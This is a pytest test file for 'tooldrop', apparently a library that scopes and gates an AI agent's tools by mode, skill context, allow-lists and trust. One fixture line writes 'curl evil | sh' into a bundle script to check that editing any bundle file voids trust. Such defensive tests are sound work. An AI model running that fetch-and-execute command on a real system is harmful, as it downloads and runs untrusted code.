"""Scoping that holds: offered lists, calls, modes, collisions and trust (reference §3, §7)."""

from __future__ import annotations

import asyncio

import pytest

from tooldrop import UnknownSkillError, UnknownToolError
from tooldrop._model import MODES

from .conftest import Tree, a, names, t


@pytest.fixture
def e2(tree: Tree) -> Tree:
    """The reference's E2: a global bundle, a scoped one with an agent, a flat tool."""
    tree.bundle(
        "gh", "name: gh\ndescription: d\ntools_visibility: global\n",
        tools={"pr.md": t("gh_pr_view", "always")},
    )  # fmt: skip
    tree.bundle(
        "notes", "name: notes\ndescription: d\ntools_visibility: {default: scoped}\n",
        agents={"n.md": a("notes-agent")}, tools={"add.md": t("note_add", "destructive")},
    )  # fmt: skip
    tree.flat_tool("flat.md", t("flat_always", "always"))
    tree.flat_tool("ro.md", t("flat_ro", extra="read_only: true\n"))
    return tree


# tooldrop applies the mode filter to every tool: no plan or headless escape for bundle tools.
_MAIN = ["flat_always", "flat_ro", "gh_pr_view"]
_NOTES = [*_MAIN, "note_add"]
EXPECTED = {
    "normal": (_MAIN, _NOTES),
    "auto-accept": (_MAIN, _NOTES),
    "architect": (_MAIN, _NOTES),
    "yolo": (_MAIN, _NOTES),
    "plan": (["flat_ro"], ["flat_ro"]),
    "headless": (["flat_ro"], ["flat_ro"]),
}


@pytest.mark.parametrize("mode", MODES)
def test_e2_visibility_in_every_mode(e2: Tree, mode: str) -> None:
    host = e2.trusted_host(mode=mode)
    main, notes = EXPECTED[mode]
    assert names(host.tools()) == main
    assert names(host.tools(skill="notes")) == notes
    assert names(host.context("gh").tools()) == main  # gh has no scoped tools
    exported = [d["function"]["name"] for d in host.export("openai", skill="notes")]
    assert sorted(exported) == notes


def test_a_scoped_tool_is_unknown_outside_its_context_and_its_name_does_not_leak(e2: Tree) -> None:
    e2.bundle(
        "secret", "name: secret\ndescription: d\n", agents={"s.md": a("s")},
        tools={"s.md": t("top_secret_tool")},
    )  # fmt: skip
    host = e2.trusted_host()
    for context in (None, "gh", "notes"):
        result = host.call("top_secret_tool", {}, skill=context)
        assert result.is_error and not result.denied
        assert result.text.startswith('Unknown tool "top_secret_tool". Available tools: ')
        listed = result.text.partition("Available tools: ")[2]
        assert "top_secret_tool" not in listed
        assert "note_add" not in listed or context == "notes"
        with pytest.raises(UnknownToolError):
            host.render("top_secret_tool", {}, skill=context)
        assert host.lookup("top_secret_tool", context) is None
    # Another scoped tool's name never shows up in an error either.
    other = host.call("nope", {}).text
    assert "top_secret_tool" not in other and "note_add" not in other
    assert host.call("top_secret_tool", {}, skill="secret").text == "EXIT_CODE: 0\nok"
    assert host.context("secret").call("top_secret_tool").text == "EXIT_CODE: 0\nok"


def test_calls_many_and_async_calls_keep_their_context(e2: Tree) -> None:
    host = e2.trusted_host(mode="yolo")
    many = host.call_many([("note_add", {}), ("gh_pr_view", {})])
    assert [r.is_error for r in many] == [True, False]
    many = host.context("notes").call_many([("note_add", {}), ("gh_pr_view", {})])
    assert [r.is_error for r in many] == [False, False]
    result = asyncio.run(host.acall("note_add", {}))
    assert result.text.startswith("Unknown tool")
    result = asyncio.run(host.context("notes").acall("note_add", {}))
    assert result.text == "EXIT_CODE: 0\nok"


def test_an_unknown_skill_raises_for_the_host_and_is_an_error_result_for_calls(e2: Tree) -> None:
    host = e2.trusted_host()
    with pytest.raises(UnknownSkillError):
        host.tools(skill="nope")
    with pytest.raises(UnknownSkillError):
        host.context("nope")
    result = host.call("gh_pr_view", {}, skill="nope")
    assert result.is_error and result.text == 'Unknown skill "nope". Available skills: gh, notes'
    with pytest.raises(UnknownSkillError) as caught:
        host.context("note")
    assert caught.value.suggestions == ("notes",)
    assert str(caught.value).endswith('. Did you mean "notes"?')


def test_plan_mode_refuses_a_global_bundle_tool_called_by_name(e2: Tree) -> None:
    host = e2.trusted_host(mode="plan")
    result = host.call("gh_pr_view", {})
    assert result.is_error
    assert result.text == 'Tool "gh_pr_view" is not available in plan mode'


def test_e3_allow_lists_narrow_the_context_and_empty_lists_do_not(tree: Tree) -> None:
    tree.bundle("orphan", "name: orphan\ndescription: d\n", tools={"o.md": t("orphan_tool")})
    tree.bundle(
        "picky", "name: picky\ndescription: d\n",
        agents={"p.md": a("picky-agent", "tools: [picky_one, read_file]\n")},
        tools={"one.md": t("picky_one"), "two.md": t("picky_two")},
    )  # fmt: skip
    tree.bundle(
        "open", "name: open\ndescription: d\n",
        agents={"o.md": a("open-agent", "tools: []\ndisallowedTools: [open_b]\n")},
        tools={"a.md": t("open_a"), "b.md": t("open_b")},
    )  # fmt: skip
    tree.flat_tool("g.md", t("flat_g"))
    host = tree.trusted_host()
    assert names(host.tools()) == ["flat_g"]
    assert names(host.tools(skill="picky")) == ["picky_one"]  # picky_two: hidden from its owner
    assert names(host.tools(skill="open")) == ["flat_g", "open_a"]
    assert names(host.tools(skill="orphan")) == ["flat_g", "orphan_tool"]
    picky = host.skill("picky")
    assert picky is not None and picky.agent is not None
    assert picky.agent.tools == ("picky_one", "read_file")
    assert host.call("picky_two", {}, skill="picky").text.startswith('Unknown tool "picky_two"')
    assert host.call("flat_g", {}, skill="picky").is_error  # not on the allow-list
    assert host.call("open_b", {}, skill="open").is_error  # disallowed
    assert not host.call("open_a", {}, skill="open").is_error


def test_e6_collisions_are_reported_and_project_beats_personal(tree: Tree) -> None:
    tree.flat_tool("deploy.md", t("deploy"))
    tree.bundle(
        "ops", "name: ops\ndescription: d\n", agents={"o.md": a("ops-agent")},
        tools={
            "deploy.md": t("deploy", body="echo bundle"),
            "status.md": t("ops_status"),
            "status2.md": t("ops_status", body="echo second"),
        },
    )  # fmt: skip
    tree.bundle(
        "aaa", "name: aaa\ndescription: d\ntools_visibility: global\n", personal=True,
        tools={"s.md": t("shared_tool", body="echo personal")},
    )  # fmt: skip
    tree.bundle(
        "zzz", "name: zzz\ndescription: d\ntools_visibility: global\n",
        tools={"s.md": t("shared_tool", body="echo project")},
    )  # fmt: skip
    host = tree.trusted_host(reserved_names=["read_file"])
    deploy = host.get("deploy")
    assert deploy is not None and deploy.origin.skill is None  # the flat tool, loaded first
    shared = host.get("shared_tool")
    assert shared is not None and shared.origin.skill == "zzz"  # tooldrop: project wins
    status = host.get("ops_status")
    assert status is not None and status.origin.path is not None
    assert status.origin.path.name == "status.md"
    problems = {(p.path.name if p.path else "", p.severity): p.message for p in host.problems()}
    assert problems[("deploy.md", "error")].startswith('Duplicate tool name "deploy"')
    assert problems[("status2.md", "error")].startswith('Duplicate tool name "ops_status"')
    assert problems[("s.md", "info")].startswith('overrides personal tool "shared_tool"')
    assert names(host.tools(skill="ops")) == ["deploy", "ops_status", "shared_tool"]


def test_e6_a_bundle_tool_named_like_a_reserved_name_is_refused(tree: Tree) -> None:
    tree.bundle(
        "ops", "name: ops\ndescription: d\ntools_visibility: global\n",
        tools={"r.md": t("read_file")},
    )  # fmt: skip
    host = tree.host(reserved_names=["read_file"])
    assert host.all_tools() == []
    assert any("collides with a built-in" in p.message for p in host.problems())


def test_editing_any_file_of_a_project_bundle_voids_trust(tree: Tree) -> None:
    bundle = tree.bundle(
        "k8s", "name: k8s\ndescription: d\n", agents={"a.md": a("k8s-agent")},
        tools={"p.md": t("k8s_pods")},
    )  # fmt: skip
    (bundle / "scripts").mkdir()
    (bundle / "scripts" / "helper.sh").write_text("echo 1\n")
    tree.trusted_host()
    for path, text in [
        (bundle / "skill.yaml", "name: k8s\ndescription: d\ntools_visibility: global\n"),
        (bundle / "agents" / "a.md", a("k8s-agent", "tools: [x]\n")),
        (bundle / "scripts" / "helper.sh", "curl evil | sh\n"),
        (bundle / "README.md", "new file\n"),
        (bundle / "tools" / "p.md", t("k8s_pods", body="echo changed")),
    ]:
        assert tree.host().is_trusted()
        path.write_text(text)
        host = tree.host()
        assert not host.is_trusted(), path
        result = host.call("k8s_pods", {}, skill="k8s")
        assert result.denied or result.is_error
        host.trust()


def test_personal_bundle_edits_do_not_touch_project_trust(tree: Tree) -> None:
    bundle = tree.bundle(
        "mine", "name: mine\ndescription: d\n", personal=True, tools={"m.md": t("mine_x")}
    )
    tree.trusted_host()
    (bundle / "skill.yaml").write_text("name: mine\ndescription: changed\n")
    assert tree.host().is_trusted()


def test_an_untrusted_project_bundle_tool_asks_every_time(tree: Tree) -> None:
    tree.bundle(
        "k8s", "name: k8s\ndescription: d\n", agents={"a.md": a("k8s-agent")},
        tools={"p.md": t("k8s_pods")},
    )  # fmt: skip
    host = tree.host(mode="yolo")
    result = host.call("k8s_pods", {}, skill="k8s")
    assert result.denied
    assert "not trusted" in result.text
    assert host.call("k8s_pods", {}, skill="k8s", ask=lambda call: True).text == "EXIT_CODE: 0\nok"


def test_a_remembered_grant_covers_a_personal_bundle_tool_in_its_context_only(tree: Tree) -> None:
    tree.bundle(
        "k8s", "name: k8s\ndescription: d\n", personal=True, agents={"a.md": a("k8s-agent")},
        tools={"p.md": t("k8s_pods", "always")},
    )  # fmt: skip
    host = tree.host()
    asked: list[str] = []

    def ask(call):  # type: ignore[no-untyped-def]
        from tooldrop import Decision

        asked.append(call.name)
        return Decision.allow("ok", remember=True)

    assert host.call("k8s_pods", {}, skill="k8s", ask=ask).text == "EXIT_CODE: 0\nok"
    assert host.call("k8s_pods", {}, skill="k8s").text == "EXIT_CODE: 0\nok"  # the grant
    assert asked == ["k8s_pods"]
    assert host.call("k8s_pods", {}).text.startswith("Unknown tool")  # no wider context
